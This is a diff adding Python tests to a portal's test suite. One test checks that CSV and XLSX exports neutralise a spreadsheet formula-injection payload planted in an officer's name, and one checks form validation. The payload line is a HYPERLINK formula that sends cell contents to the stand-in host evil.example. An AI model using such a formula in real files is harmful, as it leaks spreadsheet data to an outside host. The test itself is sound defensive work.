@@ -289,6 +289,41 @@ async def test_bureau_report_as_csv_and_xlsx(portal: Portal) -> None:
     assert wb["officers"].max_row == 5 and wb["units"].max_row == 3
 
 
+async def test_exports_write_formulas_as_text(portal: Portal) -> None:
+    """A name typed as a formula stays text in the reader's spreadsheet (CSV injection)."""
+    year = (await _session(portal)).planned_start.year
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    async with portal.services.sessionmaker() as db:
+        from classroom.db.models import Person
+
+        officer = await db.scalar(select(Person).where(Person.username == "officer3"))
+        assert officer is not None
+        officer.display_name = evil
+        await db.commit()
+    async with portal.as_user("manager") as manager:
+        c = await manager.get(f"/api/v1/compliance/bureau?year={year}&format=csv")
+        x = await manager.get(f"/api/v1/compliance/bureau?year={year}&format=xlsx")
+    rows = list(csv.DictReader(io.StringIO(c.content.decode("utf-8-sig"))))
+    assert "'" + evil in [r["name"] for r in rows]
+    assert not [r for r in rows if r["name"].startswith(("=", "+", "-", "@"))]
+    sheet = load_workbook(io.BytesIO(x.content))["officers"]
+    (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == evil]
+    assert cell.data_type == "s"  # a string, not a formula
+
+
+async def test_study_items_form_refuses_bad_numbers(portal: Portal) -> None:
+    s = await _session(portal)
+    async with portal.as_user("trainer") as trainer:
+        for form in ({"item": "²"}, {"item": "abc"}, {"item": "15", "articles_15": "999"}):
+            r = await trainer.post(f"/sessions/{s.id}/study-items", data=form)
+            assert r.status_code == 422, (form, r.status_code)
+            assert "<main" in r.text  # the portal's error page, not a bare 500
+        r = await trainer.post(
+            f"/sessions/{s.id}/study-items", data={"item": "15", "articles_15": "2"}
+        )
+        assert r.status_code == 303
+
+
 async def test_study_items_are_checked_against_the_plan(portal: Portal) -> None:
     s = await _session(portal)
     async with portal.as_user("trainer") as trainer:
